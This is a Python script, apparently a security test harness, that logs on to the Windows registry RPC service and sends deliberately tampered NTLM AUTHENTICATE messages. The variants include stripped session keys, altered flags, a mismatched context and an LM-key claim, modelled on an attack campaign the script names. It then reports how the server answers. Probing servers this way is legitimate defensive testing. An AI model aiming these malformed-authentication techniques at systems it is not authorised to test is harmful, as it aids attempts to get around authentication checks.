#!/usr/bin/python3
"""A logon by a real account whose AUTHENTICATE is then tampered the way issue 28's campaign did,
over ncacn_ip_tcp or the SMB pipe \\pipe\\winreg. impacket builds the NTLMSSP messages (so the
NTLMv2 proof is valid); the DCE/RPC PDUs are written here byte by byte (C706 12.6, MS-RPCE 2.2.2)
so that the auth3 can carry anything. After the auth3 one OpenHKPD request goes out.
Prints one JSON line: {"key_exch": bool, "lm_key": bool, "ptype": N, "fault": N|null}.
Usage: hostile_auth.py --transport tcp|smb --address A --port P --user U --password PW
       --variant none|empty-key|short-key|drop-key-exch|zero-flags|other-context|other-level|
                 no-lm-response|claim-lm-key [--ntlmv1] [--domain D] [--leg auth3|alter] [--spnego]
--ntlmv1: an NTLMv1 response (with NTLM2 session security, as impacket sends it) instead of NTLMv2.
--domain: the DomainName the AUTHENTICATE names; N:HEX is N times U+HEX (issue 44's A2: 200:ffff, 175:6f22).
--lm-key: the NEGOTIATE asks for NTLMSSP_NEGOTIATE_LM_KEY and not NTLM2 session security (issue
  44's A1', with --ntlmv1 and --variant no-lm-response: an LmChallengeResponse of 0 bytes).
--leg alter: the AUTHENTICATE goes in an alter_context (Samba's last leg) instead of an auth3.
--spnego: auth type 9, the NTLMSSP messages inside SPNEGO tokens (always an alter_context leg)."""
import argparse
import json
import struct
import sys

from impacket import ntlm
from impacket.spnego import SPNEGO_NegTokenInit, SPNEGO_NegTokenResp, TypesMech
from impacket.dcerpc.v5 import transport

WINREG = bytes.fromhex("01d08c334422f131aaaa900038001003") + struct.pack("<HH", 1, 0)
NDR = bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)
AUTH_SPNEGO, AUTH_NTLMSSP, LEVEL_CONNECT, CONTEXT_ID = 9, 10, 2, 0x55


def header(ptype, call_id, body, auth=b""):
    frag = 16 + len(body) + len(auth)
    auth_len = len(auth) - 8 if auth else 0
    return struct.pack("<BBBBIHHI", 5, 0, ptype, 3, 0x10, frag, auth_len, call_id) + body + auth


def trailer(token, level=LEVEL_CONNECT, context=CONTEXT_ID, auth_type=AUTH_NTLMSSP):
    return struct.pack("<BBBBI", auth_type, level, 0, 0, context) + token


def recv_pdu(t):
    data = t.recv()
    ptype = data[2]
    frag, auth_len = struct.unpack_from("<HH", data, 8)
    token = data[frag - auth_len:frag] if auth_len else b""
    return ptype, data, token


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--transport", choices=["tcp", "smb"], required=True)
    p.add_argument("--address", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--user", required=True)
    p.add_argument("--password", required=True)
    p.add_argument("--variant", required=True)
    p.add_argument("--ntlmv1", action="store_true")
    p.add_argument("--domain", default="", help="N:HEX is N times the code point HEX (200:ffff)")
    p.add_argument("--lm-key", action="store_true")
    p.add_argument("--leg", choices=["auth3", "alter"], default="auth3")
    p.add_argument("--spnego", action="store_true")
    p.add_argument("--smb-password", default="", help="the SMB logon's, when not --password")
    a = p.parse_args()
    auth_type = AUTH_SPNEGO if a.spnego else AUTH_NTLMSSP
    if ":" in a.domain:
        count, unit = a.domain.split(":")
        a.domain = chr(int(unit, 16)) * int(count)
    if a.spnego:
        a.leg = "alter"

    if a.transport == "tcp":
        t = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:{a.address}[{a.port}]")
    else:
        t = transport.DCERPCTransportFactory(f"ncacn_np:{a.address}[\\pipe\\winreg]")
        t.set_dport(a.port)
        t.set_credentials(a.user, a.smb_password or a.password, "")
    t.set_connect_timeout(10)
    t.connect()

    type1 = ntlm.getNTLMSSPType1("", "", signingRequired=True)
    if a.lm_key:
        type1["flags"] = (type1["flags"] | ntlm.NTLMSSP_NEGOTIATE_LM_KEY) & ~ntlm.NTLMSSP_NEGOTIATE_NTLM2
    first = type1.getData()
    if a.spnego:
        init = SPNEGO_NegTokenInit()
        init["MechTypes"] = [TypesMech["NTLMSSP - Microsoft NTLM Security Support Provider"]]
        init["MechToken"] = first
        first = init.getData()
    ctx = struct.pack("<HBB", 0, 1, 0) + WINREG + NDR
    bind = struct.pack("<HHIB3x", 5840, 5840, 0, 1) + ctx
    t.send(header(11, 1, bind, trailer(first, auth_type=auth_type)))
    ptype, _, challenge = recv_pdu(t)
    if ptype != 12:
        print(json.dumps({"error": f"bind answered with ptype {ptype}"}))
        return 1
    if a.spnego:
        challenge = SPNEGO_NegTokenResp(challenge)["ResponseToken"]
    type3, _ = ntlm.getNTLMSSPType3(type1, challenge, a.user, a.password, a.domain, "", "", use_ntlmv2=not a.ntlmv1)
    msg = bytearray(type3.getData())
    challenge_flags = struct.unpack_from("<I", challenge, 20)[0]
    key_exch = bool(challenge_flags & ntlm.NTLMSSP_NEGOTIATE_KEY_EXCH)
    flags = struct.unpack_from("<I", msg, 60)[0]
    if a.lm_key and not challenge_flags & ntlm.NTLMSSP_NEGOTIATE_LM_KEY:
        # impacket keeps the NEGOTIATE's LM_KEY in the AUTHENTICATE whatever the CHALLENGE granted;
        # a client following the CHALLENGE (the campaign's, and Windows') does not claim it.
        flags &= ~ntlm.NTLMSSP_NEGOTIATE_LM_KEY
        struct.pack_into("<I", msg, 60, flags)
    if a.variant == "empty-key":
        struct.pack_into("<HH", msg, 52, 0, 0)
    elif a.variant == "short-key":
        struct.pack_into("<HH", msg, 52, 8, 8)
    elif a.variant == "drop-key-exch":
        struct.pack_into("<I", msg, 60, flags & ~ntlm.NTLMSSP_NEGOTIATE_KEY_EXCH)
    elif a.variant == "zero-flags":
        struct.pack_into("<I", msg, 60, 0)
    elif a.variant == "no-lm-response":
        struct.pack_into("<HH", msg, 12, 0, 0)
    elif a.variant == "claim-lm-key":
        struct.pack_into("<I", msg, 60, flags | ntlm.NTLMSSP_NEGOTIATE_LM_KEY)
    level, context = LEVEL_CONNECT, CONTEXT_ID
    if a.variant == "other-context":
        context += 1
    elif a.variant == "other-level":
        level = 5
    last = bytes(msg)
    if a.spnego:
        resp = SPNEGO_NegTokenResp()
        resp["ResponseToken"] = last
        last = resp.getData()
    if a.leg == "auth3":
        t.send(header(16, 2, b"\0" * 4, trailer(last, level, context, auth_type)))
    else:  # alter_context: the same context, answered by alter_context_resp (15) or a fault
        t.send(header(14, 2, struct.pack("<HHI", 5840, 5840, 0) + struct.pack("<B3x", 1) + ctx,
                      trailer(last, level, context, auth_type)))
        try:
            ptype, data, _ = recv_pdu(t)
        except Exception as e:
            print(json.dumps({"alter_error": str(e), "key_exch": key_exch, "ptype": None, "fault": None}))
            return 0
        if ptype != 15:
            fault = struct.unpack_from("<I", data, 24)[0] if ptype == 3 else None
            print(json.dumps({"key_exch": key_exch, "lm_key": bool(challenge_flags & ntlm.NTLMSSP_NEGOTIATE_LM_KEY),
                              "alter_ptype": ptype, "ptype": ptype, "fault": fault}))
            return 0

    stub = struct.pack("<II", 0, 0x02000000)  # OpenHKPD(ServerName NULL, MAXIMUM_ALLOWED)
    t.send(header(0, 3, struct.pack("<IHH", len(stub), 0, 3) + stub))  # level connect: no verifier
    out = {"key_exch": key_exch, "lm_key": bool(challenge_flags & ntlm.NTLMSSP_NEGOTIATE_LM_KEY), "ptype": None,
           "fault": None}
    try:
        ptype, data, _ = recv_pdu(t)
        out["ptype"] = ptype
        if ptype == 3:
            out["fault"] = struct.unpack_from("<I", data, 24)[0]
    except Exception as e:
        out["recv_error"] = str(e)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
